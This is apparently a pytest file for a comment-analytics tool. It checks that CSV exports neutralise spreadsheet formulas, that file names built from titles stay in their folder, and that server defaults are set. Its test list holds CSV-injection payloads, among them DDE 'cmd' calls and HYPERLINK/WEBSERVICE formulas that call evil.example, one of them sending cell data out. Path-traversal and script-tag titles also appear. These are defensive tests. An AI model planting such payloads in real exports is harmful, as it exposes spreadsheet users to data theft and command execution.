"""analytics.model.safety and the exports that use it: no spreadsheet formula leaves Threadscope in a
CSV cell, JSON and Parquet keep the raw text, file names built from titles stay in their folder,
and the server's defaults (bind address, upload limit) are set."""

from __future__ import annotations

import csv
import io
import json
import re
import tomllib
import unicodedata
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from conftest import make_thread
from hypothesis import example, given, settings
from hypothesis import strategies as st

import analytics
from analytics.enrich import enrich
from analytics.loaders import Corpus, LoadReport
from analytics.model import safety
from analytics.output import bundle
from analytics.output.export import export_corpus, table_for_csv, table_json, table_parquet, write_tables
from analytics.views.filters import Filters

ROOT = Path(__file__).resolve().parents[2]
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\x00"]
# Payloads from the CSV-injection literature, one per trigger and then some.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "=1+1",
    "+1+1",
    "-1+1",
    "@geha you are wrong",
    "- a list item",
    "--",
    "=",
    "@",
    "+",
    "  =1+1",
    "\n=1+1",
    " \n @SUM(A1)",
    "'=1+1",
    "''-x",
    '=WEBSERVICE("http://evil.example")',
]


def _cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))


def _spreadsheet_would_run(cell: str) -> bool:
    """What a spreadsheet does with a cell, independently of safety's own code: a formula when
    the first character after spaces and line feeds is a trigger, unless it is a plain number."""
    first = cell.lstrip(" \n")[:1]
    return first in TRIGGERS and not re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell)


# --- the rule, cell by cell ------------------------------------------------------------------------


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_every_trigger_gets_an_apostrophe(trigger):
    for value in (trigger, trigger + "1+1", trigger + "cmd|' /C calc'!A0", " " + trigger + "x", "\n" + trigger):
        assert safety.neutralise_cell(value) == "'" + value
        assert safety.is_dangerous(value)
        assert not safety.is_dangerous(safety.neutralise_cell(value))


@pytest.mark.parametrize("value", ["-0.5", "+3", "-1e-3", "42", ".5", "-7.", "+1E+10"])
def test_plain_numbers_in_text_stay_numbers(value):
    assert safety.neutralise_cell(value) == value
    assert not safety.is_dangerous(value)


@pytest.mark.parametrize(
    "value",
    [
        "hello",
        "a=b",
        "1+1",
        '["geha"]',
        "2013-02-20T18:18:00",
        "",
        "'tis",
        "ليلى",
        "e-mail",
        "x@y",
        "-0.5 points",
        "- 3",
    ],
)
def test_harmless_text_is_unchanged(value):
    expected = "'" + value if value in ("-0.5 points", "- 3") else value
    assert safety.neutralise_cell(value) == expected


def test_non_text_values_pass_through():
    for value in (-0.5, -3, None, True, ["=x"], float("nan")):
        assert safety.neutralise_cell(value) is value


def test_apostrophes_before_a_trigger_get_one_more_so_the_change_can_be_undone():
    assert safety.neutralise_cell("'=1") == "''=1"
    assert safety.restore_cell("''=1") == "'=1"
    assert safety.restore_cell("'tis") == "'tis"  # never marked, never changed


@settings(max_examples=300, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(list("'=+-@\t\r\x00 \n0123456789.eE") + ["a", "ل", "\u202e"]), max_size=8)
    | st.text(max_size=20)
)
@example("-0\n")  # found by Hypothesis: a number followed by a line feed is not a plain number
@example("+1e5\n")
def test_restore_undoes_neutralise_and_nothing_dangerous_remains(text):
    marked = safety.neutralise_cell(text)
    assert safety.restore_cell(marked) == text
    assert not _spreadsheet_would_run(marked)
    assert marked in (text, "'" + text)
    # the column functions do what the cell functions do, for both kinds of text column
    for dtype in ("str", object):
        column = pd.Series([text, None, text], dtype=dtype)
        assert safety.neutralise_series(column).tolist()[::2] == [marked, marked]
        assert safety.restore_series(safety.neutralise_series(column)).tolist()[::2] == [text, text]


# --- frames and CSV files --------------------------------------------------------------------------


def _hostile_frame() -> pd.DataFrame:
    n = len(PAYLOADS)
    return pd.DataFrame(
        {
            "author": pd.Series(PAYLOADS, dtype="str"),
            "text": pd.Series(PAYLOADS[::-1], dtype=object),
            "polarity": [-0.5 + k / n for k in range(n)],
            "n_words": pd.Series([-k for k in range(n)], dtype="Int64"),
            "timestamp": pd.to_datetime(["2013-02-20 18:18"] * (n - 1) + [None]),
            "mentions": [["=evil", "geha"]] * n,
            "label": pd.Categorical(["=neg", "pos"] * (n // 2) + ["pos"] * (n % 2)),
        }
    )


def test_table_for_csv_marks_text_and_keeps_numbers_timestamps_and_lists():
    frame = _hostile_frame()
    out = table_for_csv(frame)
    assert out["author"].tolist() == [
        ("'" + p) if _spreadsheet_would_run(p) or p.startswith("'") else p for p in PAYLOADS
    ]
    assert out["polarity"].tolist() == frame["polarity"].tolist() and out["polarity"].dtype == "float64"
    assert out["n_words"].tolist() == frame["n_words"].tolist()
    assert out["timestamp"].iloc[0] == "2013-02-20T18:18:00" and pd.isna(out["timestamp"].iloc[-1])
    assert json.loads(out["mentions"].iloc[0]) == ["=evil", "geha"]
    assert set(out["label"].astype(str)) == {"'=neg", "pos"}
    assert frame["author"].tolist() == PAYLOADS  # the input is not changed


@pytest.mark.parametrize("writer", ["bundle.table_csv", "export.write_tables"])
def test_no_cell_of_a_csv_export_would_run(writer, tmp_path):
    frame = _hostile_frame().rename(columns={"author": '=HYPERLINK("x")'})
    if writer == "bundle.table_csv":
        raw = bundle.table_csv(frame)
    else:
        raw = write_tables({"hostile": frame}, tmp_path)[0].read_bytes()
    rows = _cells(raw)
    assert len(rows) == len(frame) + 1  # no payload broke a row apart
    assert rows[0][0] == '\'=HYPERLINK("x")'
    for row in rows:
        for cell in row:
            assert not _spreadsheet_would_run(cell), (writer, cell)
    # numbers are still numbers
    assert rows[1][2] == str(frame["polarity"].iloc[0]) and rows[2][3] == "-1"


def test_a_carriage_return_inside_a_cell_does_not_split_the_row(tmp_path):
    frame = pd.DataFrame({"author": ["a\rb", "c"], "text": ["x\r\ny", "z"]})
    path = write_tables({"t": frame}, tmp_path)[0]
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert back.to_dict("list") == {"author": ["a\rb", "c"], "text": ["x\r\ny", "z"]}


def test_json_and_parquet_keep_the_raw_text(tmp_path):
    frame = _hostile_frame().drop(columns="label")
    records = json.loads(table_json(frame))
    assert [r["author"] for r in records] == PAYLOADS
    assert records[0]["mentions"] == ["=evil", "geha"] and records[0]["timestamp"] == "2013-02-20T18:18:00"
    assert records[-1]["timestamp"] is None and records[1]["polarity"] == frame["polarity"].iloc[1]
    back = pd.read_parquet(io.BytesIO(table_parquet(frame)))
    assert back["author"].tolist() == PAYLOADS and back["text"].tolist() == PAYLOADS[::-1]
    assert back["mentions"].map(list).tolist() == frame["mentions"].tolist()
    paths = write_tables({"t": frame}, tmp_path, format="json") + write_tables({"t": frame}, tmp_path, format="parquet")
    assert [p.name for p in paths] == ["t.json", "t.parquet"]
    assert json.loads(paths[0].read_bytes()) == records
    with pytest.raises(ValueError, match="format must be one of csv, json, parquet"):
        write_tables({"t": frame}, tmp_path, format="xlsx")


def test_threadscope_export_loads_back_byte_for_byte(tmp_path):
    # NUL included: a CSV with a stray NUL in a comment is text, not binary data.
    assert any("\x00" in p for p in PAYLOADS)
    rows = [{"author": p, "text": p, "timestamp": "2013-02-20 18:00"} for p in PAYLOADS]
    articles, comments = make_thread(rows, title='=HYPERLINK("http://evil.example")', body="@body -1")
    export_corpus(Corpus(articles, comments, LoadReport()), tmp_path)
    raw = (tmp_path / "comments.csv").read_bytes()
    assert all(not _spreadsheet_would_run(cell) for row in _cells(raw) for cell in row)
    back = analytics.load(tmp_path)
    pd.testing.assert_frame_equal(back.comments, comments, check_dtype=False)
    pd.testing.assert_frame_equal(
        back.articles.drop(columns="source"), articles.drop(columns="source"), check_dtype=False
    )


def test_report_zip_tables_hold_no_formula():
    rows = [
        {
            "author": p if p.strip("\x00") else "x",
            "text": f"{p} is a terrible idea",
            "timestamp": f"2013-02-20 18:{k:02d}",
        }
        for k, p in enumerate(PAYLOADS)
    ]
    articles, comments = make_thread(rows, title="=cmd|' /C calc'!A0")
    analysis = enrich(Corpus(articles, comments, LoadReport()))
    raw = bundle.build_report(analysis, Filters(), images=False)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        tables = [n for n in archive.namelist() if n.endswith(".csv")]
        assert "tables/comments.csv" in tables
        for name in tables:
            for row in _cells(archive.read(name)):
                for cell in row:
                    assert not _spreadsheet_would_run(cell), (name, cell)


# --- file names --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "title, expected",
    [
        ("../../etc/passwd", "etc-passwd.csv"),
        ("..\\..\\Windows\\win.ini", "Windows-win.ini.csv"),
        ("Lavrov Warns Syria Rivals", "Lavrov-Warns-Syria-Rivals.csv"),
        ("invoice\u202efdp.exe", "invoice-fdp.exe.csv"),  # right-to-left override
        ("zero\u200bwidth", "zero-width.csv"),
        ("<script>alert(1)</script>", "script-alert-1-script.csv"),
        ('a:b*c?d"e<f>g|h', "a-b-c-d-e-f-g-h.csv"),
        ("CON", "_CON.csv"),
        ("nul.txt", "_nul.txt.csv"),
        ("LPT9", "_LPT9.csv"),
        (".hidden", "hidden.csv"),
        ("...", "threadscope.csv"),
        ("", "threadscope.csv"),
        (None, "threadscope.csv"),
        ("ﬁle", "file.csv"),  # NFKC
        ("لافروف يحذر", "لافروف-يحذر.csv"),
    ],
)
def test_safe_file_name(title, expected):
    assert safety.safe_file_name(title, suffix=".csv") == expected


def test_safe_file_name_cuts_long_titles_on_a_character_boundary():
    name = safety.safe_file_name("ل" * 300, suffix=".html", max_bytes=101)
    assert name == "ل" * 50 + ".html"
    assert safety.safe_file_name("x" * 10_000) == "x" * 100


def test_safe_file_name_ascii_only():
    assert safety.safe_file_name("Café — Zürich", ascii_only=True) == "Cafe-Zurich"
    assert safety.safe_file_name("لافروف", ascii_only=True, fallback="article") == "article"


def test_safe_file_name_refuses_a_suffix_that_is_not_an_extension():
    for suffix in ("/../x", "csv", ".c/v", ". csv"):
        with pytest.raises(ValueError, match="suffix must be an extension"):
            safety.safe_file_name("t", suffix=suffix)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300), st.integers(min_value=1, max_value=200))
def test_safe_file_name_always_stays_in_its_folder(title, max_bytes):
    name = safety.safe_file_name(title, suffix=".csv", max_bytes=max_bytes)
    stem = name[:-4]
    assert stem and not stem.startswith(".") and stem not in (".", "..")
    assert not any(c in name for c in '/\\:*?"<>|\x00')
    assert not any(unicodedata.category(c)[0] in "CZ" for c in name)
    assert len(stem.encode("utf-8")) <= max(max_bytes, len("threadscope")) + 1  # "_" before a device name
    assert (Path("/out") / name).parent == Path("/out")


# --- server defaults ------------------------------------------------------------------------------------


def _config() -> dict:
    return tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))


def test_server_binds_to_this_machine_only_by_default():
    assert _config()["server"]["address"] == "127.0.0.1"


def test_upload_size_is_limited():
    limit = _config()["server"]["maxUploadSize"]
    assert isinstance(limit, int) and 1 <= limit <= 1000
